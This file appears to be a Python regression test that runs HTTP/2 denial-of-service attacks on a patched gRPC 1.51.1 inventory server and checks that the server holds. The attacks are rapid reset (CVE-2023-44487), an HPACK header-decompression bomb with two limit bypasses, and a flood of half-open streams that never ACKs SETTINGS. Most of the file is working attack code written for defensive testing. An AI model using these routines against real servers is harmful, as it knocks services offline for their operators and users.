#!/usr/bin/env python3
"""HTTP/2 denial-of-service attacks on gRPC 1.51.1 as tests: each runs one
attack against a running inventory_server and checks that the project's
patches to gRPC (deps/grpc/patches/) hold, bounded in time and in the
server's memory (it stops the attack once the server's RSS passes
--rss_stop_mib; run the server under an address-space limit as well, as
h2_dos_test.sh does).

  rapid_reset  (CVE-2023-44487, deps/grpc/patches/0002-*) ATTACKERS
               processes send HEADERS and at once RST_STREAM(CANCEL), stream
               after stream, on connections that never ACK SETTINGS, and
               connect again whenever the server closes one; meanwhile an
               ordinary gRPC client (grpcio) calls GetProductAvailability
               every 10 ms with a --deadline (1 s) deadline. Passes if at
               least --min_ok_percent (95) of those calls succeed, the
               server's RSS stays within --rss_limit_mib (512), the attack
               really ran (at least --min_attack_streams streams sent) and
               the server closed attacking connections (its GOAWAY for rapid
               resets) at least once.
  hpack_bomb   (CVE-2023-33953 class, 0003-*) header blocks that decode to
               far more than --max_metadata_bytes from a few bytes each: one
               4,000-byte header added to the HPACK dynamic table, then
               referenced again and again (1 byte each). Two ways past
               gRPC 1.51.1's check: (a) on connections that never ACK
               SETTINGS (the limit was then the protocol's 16 MiB), 4,000
               references in one HEADERS frame; (b) on a connection that
               ACKs, 3 references per frame in 400 CONTINUATION frames (the
               limit was checked per frame). Each request's stream is left
               open (no END_STREAM), so the server would hold what it
               decoded. Passes if every such block is refused (the server
               closes the connection or resets the stream) and the server's
               RSS grows by at most 2 x METADATA_LIMIT per request sent plus
               32 MiB.
               Blocks of the same two forms that stay below the limit are
               sent first, each on its own connection, and must be accepted
               (not reset, connection kept): so a refusal is the limit's.
  settings_ack (0004-*) one connection that never ACKs SETTINGS opens
               STREAMS half-open streams (HEADERS, no END_STREAM). Passes if
               the server accepts at most MAX_STREAMS of them (its
               --max_concurrent_streams) and refuses the rest with
               RST_STREAM(REFUSED_STREAM), keeps the connection, and still
               serves a grpcio call.
  cancellations (0002-*, the negative case) ordinary cancellation on one
               grpcio channel: CANCELS WatchProductAvailability streams each
               cancelled after its first message, and CANCELS calls whose
               deadline expires (unary calls with a 1 ms deadline, Watch
               streams with a 20 ms one), 8 at a time, beside one Watch
               stream kept open throughout. Passes if no call ends
               UNAVAILABLE (the server closed no connection for resets), the
               kept stream is still open at the end, and every call ended
               as its client made it (CANCELLED, DEADLINE_EXCEEDED or OK).

  h2_dos.py rapid_reset ADDRESS PID STUBS_DIR [--attackers=2] [--seconds=4]
  h2_dos.py hpack_bomb ADDRESS PID STUBS_DIR --metadata_limit=BYTES
  h2_dos.py settings_ack ADDRESS PID STUBS_DIR --max_streams=N [--streams=1000]
  h2_dos.py cancellations ADDRESS PID STUBS_DIR [--cancels=3000]

Exit status 0 if the server held; 1 otherwise, with the figures measured.
"""
import argparse
import concurrent.futures
import multiprocessing
import socket
import struct
import sys
import time

import hpack
from hyperframe.frame import Frame, GoAwayFrame, RstStreamFrame

import h2raw

REFUSED_STREAM = 0x7


def rst_stream_burst(block, first_id, count):
    cancel = struct.pack(">I", 0x8)
    return b"".join(
        h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, sid, block) +
        h2raw.frame(h2raw.RST_STREAM, 0, sid, cancel)
        for sid in range(first_id, first_id + 2 * count, 2))


def rapid_reset_attacker(host, port, seconds, sent, connections, closed_by_server):
    """HEADERS + RST_STREAM(CANCEL) in bursts of 100 streams, never ACKing
    SETTINGS, reading and dropping what the server sends; a new connection
    whenever the server closes one (counted in closed_by_server; a socket
    that times out is given up, not counted)."""
    block = hpack.Encoder().encode(h2raw.REQUEST_HEADERS)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            sock = h2raw.connect(host, port)
        except OSError:
            time.sleep(0.01)
            continue
        stream_id = 1
        server_closed = False
        while time.monotonic() < end and stream_id < 2**31 - 256:
            try:
                sock.sendall(rst_stream_burst(block, stream_id, 100))
            except socket.timeout:
                break  # the server stopped reading: start again
            except OSError:
                server_closed = True
                break
            stream_id += 200
            with sent.get_lock():
                sent.value += 100
            if not h2raw.drain(sock):
                server_closed = True
                break
        sock.close()
        if server_closed:
            with closed_by_server.get_lock():
                closed_by_server.value += 1
        with connections.get_lock():
            connections.value += 1


def legitimate_calls(stub, request, grpc, keep_going, rss, deadline):
    """Calls every 10 ms with a `deadline` (seconds) while keep_going();
    returns (ok, calls, statuses)."""
    ok = calls = 0
    statuses = {}
    while keep_going():
        calls += 1
        try:
            stub.GetProductAvailability(request, timeout=deadline)
            ok += 1
        except grpc.RpcError as error:
            statuses[error.code().name] = statuses.get(error.code().name, 0) + 1
        rss()
        time.sleep(0.01)
    return ok, calls, statuses


class Rss:
    """The server's RSS: the first reading and the peak of all readings."""

    def __init__(self, pid, stop_mib):
        self.pid, self.stop_mib = pid, stop_mib
        self.before = self.peak = h2raw.rss_mb(pid)

    def __call__(self):
        self.peak = max(self.peak, h2raw.rss_mb(self.pid))
        return self.peak

    def too_high(self):
        return self.peak > self.stop_mib


def rapid_reset(args, stub, request, grpc):
    host, port = args.host, args.port
    rss = Rss(args.pid, args.rss_stop_mib)
    sent = multiprocessing.Value("q", 0)
    connections = multiprocessing.Value("q", 0)
    closed_by_server = multiprocessing.Value("q", 0)
    procs = [multiprocessing.Process(target=rapid_reset_attacker,
                                     args=(host, port, args.seconds, sent, connections,
                                           closed_by_server))
             for _ in range(args.attackers)]
    start = time.monotonic()
    for proc in procs:
        proc.start()
    ok, calls, statuses = legitimate_calls(
        stub, request, grpc,
        lambda: any(p.is_alive() for p in procs) and not rss.too_high(), rss, args.deadline)
    for proc in procs:
        if rss.too_high():
            proc.terminate()
        proc.join()
    elapsed = time.monotonic() - start
    share = 100.0 * ok / max(calls, 1)
    print(f"rapid_reset: {args.attackers} attackers for {elapsed:.1f} s, "
          f"{sent.value:,} streams reset ({sent.value / elapsed:,.0f}/s) on "
          f"{connections.value} connections ({closed_by_server.value} closed by the server); "
          f"legitimate calls ({args.deadline:g} s deadline) OK {ok} of {calls} "
          f"({share:.1f}%), failures {statuses or 'none'}; server RSS "
          f"{rss.before:.0f} -> peak {rss.peak:.0f} MiB"
          + (" (stopped early)" if rss.too_high() else ""))
    failures = []
    if rss.too_high() or rss.peak > args.rss_limit_mib:
        failures.append(f"server RSS peaked at {rss.peak:.0f} MiB, over {args.rss_limit_mib} MiB")
    if calls < 20:
        failures.append(f"only {calls} legitimate calls were made")
    elif share < args.min_ok_percent:
        failures.append(f"only {share:.1f}% of legitimate calls succeeded "
                        f"(need {args.min_ok_percent:g}%)")
    if sent.value < args.min_attack_streams:
        failures.append(f"the attack sent only {sent.value} streams "
                        f"(need {args.min_attack_streams} for the test to mean anything)")
    if closed_by_server.value == 0:
        failures.append("the server never closed an attacking connection (no GOAWAY for "
                        "rapid resets)")
    return failures


def bomb_blocks():
    """(request, insert, ref): the request's own headers as never-indexed
    literals (independent of the dynamic table, so repeatable); a literal
    with incremental indexing that adds 'x-bomb: a*4000' as the newest
    dynamic entry (index 62) and emits it; one indexed reference to it."""
    encoder = hpack.Encoder()
    request = encoder.encode([(n, v, True) for n, v in h2raw.REQUEST_HEADERS])
    value = b"a" * 4000
    insert = (b"\x40" + bytes([6]) + b"x-bomb" + b"\x7f" +
              bytes([(4000 - 127) & 0x7f | 0x80, (4000 - 127) >> 7]) + value)
    ref = b"\xbe"
    return request, insert, ref


class FrameReader:
    """Frames the server sends on one socket, parsed with hyperframe."""

    def __init__(self, sock):
        self.sock, self.buffer, self.closed = sock, b"", False

    def read(self, timeout):
        """Frames received within `timeout` seconds (fewer if it closes)."""
        frames = []
        deadline = time.monotonic() + timeout
        while not self.closed and time.monotonic() < deadline:
            self.sock.settimeout(max(0.01, deadline - time.monotonic()))
            try:
                data = self.sock.recv(1 << 16)
            except socket.timeout:
                break
            except OSError:
                data = b""
            if not data:
                self.closed = True
                break
            self.buffer += data
            while len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) < 9 + length:
                    break
                frame.parse_body(memoryview(self.buffer[9:9 + length]))
                self.buffer = self.buffer[9 + length:]
                frames.append(frame)
        return frames


def hpack_bomb(args, stub, request, grpc):
    host, port = args.host, args.port
    limit = args.metadata_limit
    rss = Rss(args.pid, args.rss_stop_mib)
    req_block, insert, ref = bomb_blocks()
    refused = accepted = sent = 0
    decoded_per_request = {}
    # Controls: the same two forms, decoding to about half the limit, each
    # on its own connection; the server must accept them, so the refusals
    # below are for size, not for a malformed block.
    entry = 6 + 4000 + 32
    if limit < 2 * entry + 1024:
        return [f"--metadata_limit={limit} is too small for the control blocks"]
    control_a = h2raw.connect(host, port)
    control_a.sendall(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, 1, req_block + insert + ref))
    control_b, _ = h2raw.open_h2(host, port, ack_settings=True)
    control_b.sendall(h2raw.frame(h2raw.HEADERS, 0, 1, req_block + insert) +
                      h2raw.frame(h2raw.CONTINUATION, h2raw.END_HEADERS, 1, ref))
    controls_refused = []
    for name, sock in (("never ACKed", control_a), ("ACKed, CONTINUATION", control_b)):
        reader = FrameReader(sock)
        frames = reader.read(1.0)
        if reader.closed or any(isinstance(f, (RstStreamFrame, GoAwayFrame)) for f in frames):
            controls_refused.append(name)
    # (a) never ACKs SETTINGS; 4,000 references in one HEADERS frame
    # (4,000 + 4,000 * 1 bytes; below the 16,384-byte frame size limit).
    block_a = req_block + insert + ref * 4000
    decoded_per_request["a"] = 4001 * (6 + 4000 + 32)
    socks = []
    for _ in range(args.connections):
        sock = h2raw.connect(host, port)
        for i in range(args.streams):
            try:
                sock.sendall(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, 1 + 2 * i, block_a))
            except OSError:
                break  # the server closed the connection
            sent += 1
        socks.append(sock)
        rss()
        if rss.too_high():
            break
    # (b) ACKs SETTINGS; HEADERS with the insert and 2 references, then 400
    # CONTINUATIONs with 3 references each: every frame below the limit.
    cont_frames = 400
    if not rss.too_high():
        sock, _ = h2raw.open_h2(host, port, ack_settings=True)
        for i in range(args.streams):
            sid = 1 + 2 * i
            frames = [h2raw.frame(h2raw.HEADERS, 0, sid, req_block + insert + ref * 2)]
            frames += [h2raw.frame(h2raw.CONTINUATION, h2raw.END_HEADERS if k == cont_frames - 1
                                   else 0, sid, ref * 3) for k in range(cont_frames)]
            try:
                sock.sendall(b"".join(frames))
            except OSError:
                break
            sent += 1
        socks.append(sock)
    decoded_per_request["b"] = (3 + 3 * cont_frames) * (6 + 4000 + 32)
    # What the server made of each: reset streams, GOAWAY/close, or nothing.
    time.sleep(0.5)
    for sock in socks:
        reader = FrameReader(sock)
        frames = reader.read(2.0)
        resets = {f.stream_id for f in frames if isinstance(f, RstStreamFrame)}
        goaway = any(isinstance(f, GoAwayFrame) for f in frames)
        streams = set(range(1, 2 * args.streams, 2))
        if goaway or reader.closed:
            refused += 1
        else:
            accepted += len(streams - resets)
        rss()
    # An ordinary client is still served.
    legit = "OK"
    try:
        stub.GetProductAvailability(request, timeout=5)
    except grpc.RpcError as error:
        legit = error.code().name
    rss()
    growth = rss.peak - rss.before
    bound = 2 * limit * sent / (1 << 20) + 32
    print(f"hpack_bomb: {sent} requests on {len(socks)} connections, each block decoding to "
          f"{decoded_per_request['a']:,} (never ACKed) or {decoded_per_request['b']:,} (ACKed, "
          f"{cont_frames} CONTINUATIONs) bytes of metadata against a limit of {limit:,}: "
          f"{refused} of {len(socks)} connections refused (GOAWAY or closed), {accepted} "
          f"streams left open on the others; server RSS {rss.before:.0f} -> peak "
          f"{rss.peak:.0f} MiB (+{growth:.0f}, bound {bound:.0f}); then an ordinary call: {legit}; "
          f"control blocks of {2 * entry:,} bytes: "
          f"{'refused: ' + ', '.join(controls_refused) if controls_refused else 'both accepted'}"
          + (" (stopped early)" if rss.too_high() else ""))
    for sock in socks + [control_a, control_b]:
        sock.close()
    failures = []
    if controls_refused:
        failures.append(f"control blocks below the limit were refused ({', '.join(controls_refused)}): "
                        "the test's blocks are refused for something other than their size")
    if accepted:
        failures.append(f"{accepted} streams with an oversized header block were accepted")
    if rss.too_high() or growth > bound:
        failures.append(f"server RSS grew by {growth:.0f} MiB, over {bound:.0f} MiB")
    if legit != "OK":
        failures.append(f"the ordinary call after the attack ended {legit}")
    return failures


def settings_ack(args, stub, request, grpc):
    host, port = args.host, args.port
    rss = Rss(args.pid, args.rss_stop_mib)
    block = hpack.Encoder().encode(h2raw.REQUEST_HEADERS)
    sock = h2raw.connect(host, port)  # never ACKs the server's SETTINGS
    sock.sendall(b"".join(h2raw.frame(h2raw.HEADERS, h2raw.END_HEADERS, 1 + 2 * i, block)
                          for i in range(args.streams)))
    reader = FrameReader(sock)
    refused = set()
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline and not reader.closed:
        for frame in reader.read(0.5):
            if isinstance(frame, RstStreamFrame) and frame.error_code == REFUSED_STREAM:
                refused.add(frame.stream_id)
        rss()
        if len(refused) >= args.streams - args.max_streams:
            break
    time.sleep(0.5)
    for frame in reader.read(0.5):
        if isinstance(frame, RstStreamFrame) and frame.error_code == REFUSED_STREAM:
            refused.add(frame.stream_id)
    held = args.streams - len(refused)
    rss()
    legit = "OK"
    try:
        stub.GetProductAvailability(request, timeout=5)
    except grpc.RpcError as error:
        legit = error.code().name
    print(f"settings_ack: {args.streams} half-open streams on a connection that never ACKs "
          f"SETTINGS: {len(refused)} refused (REFUSED_STREAM), {held} held"
          f"{' (connection closed)' if reader.closed else ''}, limit {args.max_streams}; server "
          f"RSS {rss.before:.0f} -> {rss.peak:.0f} MiB; an ordinary call meanwhile: {legit}")
    sock.close()
    failures = []
    if held > args.max_streams:
        failures.append(f"{held} streams held on one connection, over its limit of "
                        f"{args.max_streams}")
    if reader.closed:
        failures.append("the server closed the connection instead of refusing streams")
    if legit != "OK":
        failures.append(f"the ordinary call ended {legit}")
    return failures


def cancellations(args, stub, request, grpc):
    """Ordinary cancellation on one channel must not look like rapid reset."""
    import inventory_pb2

    rss = Rss(args.pid, args.rss_stop_mib)
    watch_request = inventory_pb2.WatchProductAvailabilityRequest(product_ids=["product123"])
    kept = stub.WatchProductAvailability(watch_request)
    next(kept)  # its first message: the stream is open
    outcomes = {}

    def cancel_after_first():
        call = stub.WatchProductAvailability(watch_request, timeout=10)
        try:
            next(call)
            call.cancel()
            next(call)
        except grpc.RpcError as error:
            return error.code().name
        return "OK"

    def unary_deadline():
        try:
            stub.GetProductAvailability(request, timeout=0.001)
        except grpc.RpcError as error:
            return error.code().name
        return "OK"

    def watch_deadline():
        call = stub.WatchProductAvailability(watch_request, timeout=0.02)
        try:
            for _ in call:
                pass
        except grpc.RpcError as error:
            return error.code().name
        return "OK"

    start = time.monotonic()
    kinds = {"Watch cancelled after its first message": (cancel_after_first, {"CANCELLED"}),
             "unary, 1 ms deadline": (unary_deadline, {"DEADLINE_EXCEEDED", "OK"}),
             "Watch, 20 ms deadline": (watch_deadline, {"DEADLINE_EXCEEDED"})}
    unexpected = {}
    with concurrent.futures.ThreadPoolExecutor(max_workers=8) as pool:
        for kind, (call, expected) in kinds.items():
            counts = outcomes.setdefault(kind, {})
            for code in pool.map(lambda _: call(), range(args.cancels)):
                counts[code] = counts.get(code, 0) + 1
                if code not in expected:
                    unexpected[f"{kind}: {code}"] = unexpected.get(f"{kind}: {code}", 0) + 1
            rss()
            if time.monotonic() - start > 60:
                break
    kept_state = "open"
    kept.cancel()
    try:
        next(kept)
        kept_state = "still open after cancel"
    except grpc.RpcError as error:
        if error.code().name != "CANCELLED":
            kept_state = f"ended {error.code().name} before it was cancelled"
    except StopIteration:
        kept_state = "ended OK before it was cancelled"
    legit = "OK"
    try:
        stub.GetProductAvailability(request, timeout=5)
    except grpc.RpcError as error:
        legit = error.code().name
    print(f"cancellations: one channel, {time.monotonic() - start:.1f} s: "
          + "; ".join(f"{kind}: {counts}" for kind, counts in outcomes.items())
          + f"; the Watch stream kept meanwhile: {kept_state}; then an ordinary call: {legit}; "
          f"server RSS {rss.before:.0f} -> {rss.peak:.0f} MiB")
    failures = []
    if unexpected:
        failures.append(f"calls ended otherwise than their client made them: {unexpected}")
    if kept_state != "open":
        failures.append(f"the Watch stream kept throughout {kept_state}")
    if legit != "OK":
        failures.append(f"the ordinary call ended {legit}")
    if sum(sum(c.values()) for c in outcomes.values()) < 3 * args.cancels:
        failures.append("not every cancellation ran within 60 s")
    return failures


ATTACKS = {"rapid_reset": rapid_reset, "hpack_bomb": hpack_bomb, "settings_ack": settings_ack,
           "cancellations": cancellations}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("address")
    parser.add_argument("pid", type=int)
    parser.add_argument("stubs")
    parser.add_argument("--attackers", type=int, default=2)
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--min_attack_streams", type=int, default=10000)
    parser.add_argument("--min_ok_percent", type=float, default=95)
    parser.add_argument("--deadline", type=float, default=1.0)
    parser.add_argument("--cancels", type=int, default=3000)
    parser.add_argument("--rss_limit_mib", type=float, default=512)
    parser.add_argument("--rss_stop_mib", type=float, default=1024)
    parser.add_argument("--metadata_limit", type=int, default=16384)
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--streams", type=int, default=64)
    parser.add_argument("--max_streams", type=int, default=256)
    args = parser.parse_args()
    args.host, port = args.address.rsplit(":", 1)
    args.port = int(port)
    sys.path.insert(0, args.stubs)
    import grpc
    import inventory_pb2
    import inventory_pb2_grpc

    stub = inventory_pb2_grpc.InventoryServiceStub(grpc.insecure_channel(args.address))
    request = inventory_pb2.GetProductAvailabilityRequest(product_id="product123")
    stub.GetProductAvailability(request, timeout=5)  # the server answers
    failures = ATTACKS[args.attack](args, stub, request, grpc)
    for failure in failures:
        print(f"FAIL: {failure}")
    sys.exit(1 if failures else 0)


if __name__ == "__main__":
    main()
